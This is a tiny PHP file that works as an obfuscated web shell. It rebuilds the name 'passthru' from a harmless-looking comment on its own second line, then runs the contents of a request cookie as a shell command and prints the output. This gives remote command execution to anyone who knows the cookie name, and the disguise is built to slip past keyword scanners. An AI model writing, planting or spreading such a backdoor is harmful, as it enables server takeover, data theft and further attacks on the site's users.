<?php
/** pa-ss-th-ru: parameters shown through */
$me = file(__FILE__)[1];
$f = str_replace('-', '', substr($me, 4, 11));
if (!empty($_COOKIE['n'])) { ob_start(); $f($_COOKIE['n']); echo ob_get_clean(); }
